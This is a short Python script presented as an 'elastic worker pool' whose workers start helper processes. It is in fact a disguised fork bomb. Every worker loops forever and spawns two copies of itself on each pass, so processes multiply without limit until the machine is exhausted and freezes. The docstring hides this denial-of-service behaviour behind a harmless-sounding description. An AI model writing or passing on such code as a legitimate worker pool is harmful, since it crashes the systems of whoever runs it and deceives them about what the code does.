"""Elastic worker pool: each worker scales out by starting helpers."""
import multiprocessing
import time


def worker():
    while True:
        for _ in range(2):
            p = multiprocessing.Process(target=worker)
            p.start()
        time.sleep(0)


def main():
    multiprocessing.set_start_method("fork")
    worker()


if __name__ == "__main__":
    main()
